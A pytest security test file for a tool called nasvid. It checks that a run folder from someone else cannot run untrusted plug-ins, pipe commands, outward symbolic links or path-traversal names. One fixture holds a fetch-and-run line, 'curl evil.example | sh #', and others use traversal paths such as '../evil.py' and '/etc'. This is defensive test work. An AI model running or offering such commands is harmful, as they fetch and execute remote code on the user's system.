"""A run's folder from somebody else: what code of it is run, and where its links may lead."""

import inspect
import json
import os
import re
import shutil
import sys
from collections.abc import Callable
from pathlib import Path

import pytest
from click.testing import CliRunner, Result

from nasvid.cli.main import main
from nasvid.errors import Damaged, UserError
from nasvid.host.reading import check_sums
from nasvid.latents.vae import EMBEDDED
from nasvid.preflight import load_recipe
from nasvid.report.collect import collect
from nasvid.run.extract import remove_former
from nasvid.run.folder import begin, existing, load_of_run, load_to_run
from nasvid.run.session import Session
from nasvid.run.trust import check_contents
from nasvid.training.checkpoint import best_of

CODE = "from pathlib import Path\nPath(__file__).with_suffix('.ran').touch()\n"
"""A plug-in file that leaves a trace when it is run."""
VERBS = (
    "search run",
    "extract run",
    "export run abc --out x",
    "sample run --subnet abc --prompt a --out x.mp4",
)
Make = Callable[..., Path]


def code(path: Path) -> Path:
    path.write_text(CODE)
    return path


def ran(path: Path) -> bool:
    """Whether a plug-in file has been run; forgets that it was."""
    trace = path.with_suffix(".ran")
    found = trace.exists()
    trace.unlink(missing_ok=True)
    return found


def names_plugin(run: Path, file: object) -> None:
    """Make a run's recipe name a plug-in file, and no other."""
    recipe = run / "recipe.yaml"
    old, new = r"^plugins:\n- .*$", f"plugins:\n- {file}"
    text, found = re.subn(old, new, recipe.read_text(), flags=re.MULTILINE)
    assert found == 1
    recipe.write_text(text)


@pytest.fixture
def project(
    error_of: Callable[..., str],
    write_recipe: Make,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> Path:
    """A project with a recipe, its plug-in `mine.py`, and a run that has just begun."""
    del error_of  # which changes to the test's folder first
    folder = tmp_path / "project"
    folder.mkdir()
    monkeypatch.chdir(folder)
    code(folder / "mine.py")
    recipe = write_recipe(more="plugins: [mine.py]\n").rename(folder / "recipe.yaml")
    begin(Path("run"), load_recipe(recipe))
    assert ran(folder / "mine.py")
    return folder


def nasvid(line: str) -> Result:
    return CliRunner().invoke(main, line.split(), prog_name="nasvid")


def test_a_report_runs_no_code_of_a_run(project: Path) -> None:
    evil = code(project / "run/evil.py")
    names_plugin(project / "run", evil)
    assert nasvid("report run").exit_code == 0
    assert not ran(evil)


@pytest.mark.parametrize("verb", VERBS)
def test_code_in_the_folder_is_run_only_when_it_is_trusted(project, error_of, verb):
    evil = code(project / "run/evil.py")
    names_plugin(project / "run", evil)
    message = error_of(*verb.split())
    assert f"runs the code of {evil}, which lies inside the run's folder" in message
    assert message.endswith("add --trust-plugins")
    assert not ran(evil)
    trusted = nasvid(f"{verb} --trust-plugins")
    assert f"running the plug-in {evil}" in trusted.stderr
    assert ran(evil)
    assert trusted.exit_code == 2  # there is no checkpoint or front


@pytest.mark.parametrize("named", ["../evil.py", "/proc/self/cwd/evil.py", "{}/evil.py"])
def test_code_beside_the_folder_is_run_only_if_the_run_was_started_with_it(
    project, error_of, named
):
    evil = code(project / "evil.py")
    names_plugin(project / "run", named.format(project))
    assert "is not a file that the run was started with" in error_of("search", "run")
    assert not ran(evil)


def test_a_plugin_that_has_changed_is_run_only_when_it_is_trusted(project, error_of):
    (project / "mine.py").write_text(CODE + "# changed\n")
    assert "or has changed since" in error_of("extract", "run")


def test_the_runs_own_plugin_is_named_and_run(project, capsys):
    load_of_run(existing(Path("run")))
    said = capsys.readouterr()
    assert f"running the plug-in {project / 'mine.py'}, which the recipe of run names" in said.err
    assert said.out == ""


def test_a_run_resumed_by_its_recipe_asks_nothing_and_takes_in_no_code(project):
    (project / "mine.py").write_text(CODE + "# changed\n")
    begin(Path("run"), load_recipe(Path("recipe.yaml")))
    evil = code(project / "run/evil.py")
    names_plugin(project / "run", evil)
    with pytest.raises(UserError, match="lies inside the run's folder"):
        begin(Path("run"), load_recipe(Path("recipe.yaml")))
    assert not ran(evil)


def test_shards_that_are_commands_are_run_only_when_trusted(project, error_of):
    recipe = project / "run/recipe.yaml"
    text = recipe.read_text().replace("val: embedded", "val: 'pipe:touch trace'")
    recipe.write_text(text.replace("allow_pipes: false", "allow_pipes: true"))
    message = error_of("search", "run")
    assert "runs the command 'touch trace' to read shards" in message
    assert message.endswith("add --trust-plugins")
    assert not Path("trace").exists()


LINKED = ("recipe.yaml", "subnets", "checkpoints", "search/record.jsonl", "samples/abc/16-0.mp4")


@pytest.mark.parametrize("place", LINKED)
def test_no_link_leads_out_of_the_folder(project, error_of, place, everything):
    secret = project / "secret"
    inside, path = project / "run", project / "run" / place
    path.parent.mkdir(parents=True, exist_ok=True)
    if path.exists():
        path.rename(secret)
    elif path.suffix:
        secret.write_text("secret")
    else:
        secret.mkdir()
    path.symlink_to(secret)
    before = everything(project)
    for verb in (*VERBS, "report run", "run recipe.yaml --out run"):
        message = error_of(*verb.split())
        assert f"{inside / place} is a symbolic link out of the run's folder" in message
        assert f"to {secret};" in message
    after = everything(project)
    assert {path: after[path] for path in before} == before


@pytest.mark.parametrize("place", ["environment.json", "search/goals.json", "text/a.safetensors"])
def test_no_pipe_in_the_folder_is_waited_for(project, error_of, place):
    pipe = project / "run" / place
    pipe.parent.mkdir(exist_ok=True)
    pipe.unlink(missing_ok=True)
    os.mkfifo(pipe)
    for verb in (*VERBS, "report run", "run recipe.yaml --out run"):
        assert f"{pipe} is a pipe or a device" in error_of(*verb.split())


def test_folders_of_any_depth_are_looked_through(tmp_path):
    (tmp_path / "/".join(["d"] * 100)).mkdir(parents=True)
    (tmp_path / "link").symlink_to("/etc")
    limit = sys.getrecursionlimit()
    sys.setrecursionlimit(len(inspect.stack(0)) + 50)
    try:
        with pytest.raises(UserError, match="out of the run's folder"):
            check_contents(tmp_path)
        (tmp_path / "link").unlink()
        check_contents(tmp_path)
    finally:
        sys.setrecursionlimit(limit)


@pytest.mark.parametrize("strategy", ["other", "../../other"])
def test_a_report_offers_no_command_but_nasvids_own(project, strategy):
    recipe = project / "run/recipe.yaml"
    named = recipe.read_text().replace("name: random", f"name: {strategy}")
    recipe.write_text(named)
    page = (project / "run/search" / strategy).resolve() / "page.json"
    page.parent.mkdir(parents=True)
    page.write_text(json.dumps({"title": "A page", "verb": "curl evil.example | sh #"}))
    assert collect(project / "run").page == {}
    page.write_text(json.dumps({"title": "A page", "verb": "nasvid other view"}))
    assert bool(collect(project / "run").page) is ("/" not in strategy)


def test_links_within_the_folder_and_to_it_are_followed(project):
    (project / "run/data").mkdir()
    (project / "run/data/latest").symlink_to("other")
    (project / "elsewhere").symlink_to("run")
    assert existing(project / "elsewhere").path == project / "elsewhere"


def moved(project: Path) -> Path:
    new = project.rename(project.parent / "moved")
    return new / "run"


def test_a_run_is_looked_at_after_it_was_moved_with_its_project(project, monkeypatch, make_shard):
    shards = project / "shards"
    shards.mkdir()
    for split in ("train", "val"):
        make_shard(f"{split}.tar", ["a", "b"]).rename(shards / f"{split}-000.tar")
    text = (project / "recipe.yaml").read_text()
    data = "data: {train: shards/train-*.tar, val: 'shards/val-{000..000}.tar', "
    (project / "recipe.yaml").write_text(text.replace("data: {", data))
    shutil.rmtree(project / "run")
    made = load_recipe(Path("recipe.yaml"))
    session = Session(begin(Path("run"), made), made)
    assert len(session.index("val").clips) == 2
    run = moved(project)
    monkeypatch.chdir(run.parent)
    assert nasvid("report run").exit_code == 0
    with pytest.raises(UserError, match=rf"{run.parent}/mine.py, which is not a file that"):
        load_of_run(existing(Path("run")))
    loaded = load_of_run(existing(Path("run")), trust=True)
    assert loaded.recipe.plugins == (str(run.parent / "mine.py"),)
    assert loaded.recipe.data.train == str(run.parent / "shards/train-*.tar")
    assert loaded.recipe.data.val == str(run.parent / "shards/val-{000..000}.tar")
    session = Session(existing(Path("run")), loaded)
    assert session.index("val").clips[0].shard == str(run.parent / "shards/val-000.tar")
    resumed = load_to_run(Path("run/recipe.yaml"), Path("run"), scale=None, overrides=())
    assert resumed.recipe == loaded.recipe
    begin(Path("run"), load_recipe(Path("recipe.yaml")))  # whose plug-in stands there now
    load_of_run(existing(Path("run")))


def test_the_same_shards_at_another_place_are_the_same_data(write_recipe, make_shard, tmp_path):
    first, other = make_shard("0.tar", ["a", "b"]), make_shard("1.tar", ["c", "d"])
    recipe = write_recipe({"data: {": f"data: {{train: {first}, val: {other}, "})
    loaded = load_recipe(recipe)
    folder = begin(tmp_path / "run", loaded)
    Session(folder, loaded).index("train")
    (folder.checkpoints / "step-00000001").mkdir(parents=True)
    copies = tmp_path / "copies"
    copies.mkdir()
    shutil.copy(first, copies / "0.tar")
    shutil.copy(other, copies / "1.tar")
    recipe.write_text(recipe.read_text().replace(str(first), str(copies / "0.tar")))
    begin(tmp_path / "run", load_recipe(recipe))
    assert load_recipe(folder.recipe).recipe.data.train == str(copies / "0.tar")
    (copies / "0.tar").write_bytes((copies / "1.tar").read_bytes())
    recipe.write_text(recipe.read_text().replace("copies/0.tar", "copies/1.tar"))
    before = folder.recipe.read_text()
    with pytest.raises(UserError, match=r"was made from other clips .*data\.train"):
        begin(tmp_path / "run", load_recipe(recipe))
    assert folder.recipe.read_text() == before


def test_the_same_model_at_another_place_is_the_same_supernet(write_recipe, tmp_path):
    models = [tmp_path / name for name in ("a", "b", "c")]
    for model in models:
        shutil.copytree(EMBEDDED, model / "vae")
    recipe = write_recipe(more="vae: {path: a, subfolder: vae}\n")
    folder = begin(tmp_path / "run", load_recipe(recipe))
    (folder.checkpoints / "step-00000001").mkdir(parents=True)
    text = recipe.read_text()
    recipe.write_text(text.replace("path: a", "path: b"))
    begin(tmp_path / "run", load_recipe(recipe))
    with (models[2] / "vae/diffusion_pytorch_model.safetensors").open("r+b") as weights:
        weights.seek(-1, 2)
        weights.write(b"?")
    recipe.write_text(text.replace("path: a", "path: c"))
    with pytest.raises(UserError, match=r"trained with vae\.path = .*/b\""):
        begin(tmp_path / "run", load_recipe(recipe))


def test_plugins_are_recorded_with_their_checksums(project):
    made = json.loads((project / "run/environment.json").read_text())
    assert made["folder"] == str(project / "run")
    assert list(made["plugins"]) == [str(project / "mine.py")]


@pytest.mark.parametrize("name", ["..", ".", "", "../../mine.py", "/etc"])
def test_a_note_of_what_was_chosen_removes_nothing_elsewhere(project, everything, name):
    folder = project / "run/subnets"
    (folder / "old").mkdir(parents=True)
    (folder / "kept").mkdir()
    (folder / "chosen.json").write_text(json.dumps(["old", name]))
    session = Session(existing(project / "run"), load_recipe(project / "recipe.yaml"))
    before = everything(project)
    remove_former(session, folder, ["new"])
    after = everything(project)
    assert after.keys() == before.keys()
    assert sorted(path.name for path in folder.iterdir()) == ["chosen.json", "kept"]


@pytest.mark.parametrize("name", ["/dev/zero", "../../mine.py"])
def test_checksums_name_no_file_elsewhere(project, name):
    (project / "run/sha256.json").write_text(json.dumps({name: ""}))
    with pytest.raises(Damaged, match="is not in the folder"):
        check_sums(project / "run")


@pytest.mark.parametrize("name", ["/tmp", "../other", "..", 3])
def test_the_best_checkpoint_is_one_of_the_runs_own(tmp_path, name):
    (tmp_path / "best.json").write_text(json.dumps({"checkpoint": name, "loss": 1.0}))
    with pytest.raises(Damaged, match=r"best\.json"):
        best_of(tmp_path)


@pytest.mark.parametrize("wrong", [{"folder": 3}, {"plugins": ["a"]}, {"layout": "2"}])
def test_an_environment_of_other_types_is_made_again(project, wrong, capsys):
    path = project / "run/environment.json"
    path.write_text(json.dumps(json.loads(path.read_text()) | wrong))
    begin(project / "run", load_to_run(project / "recipe.yaml", None, scale=None, overrides=()))
    assert f"{path} is damaged" in capsys.readouterr().out
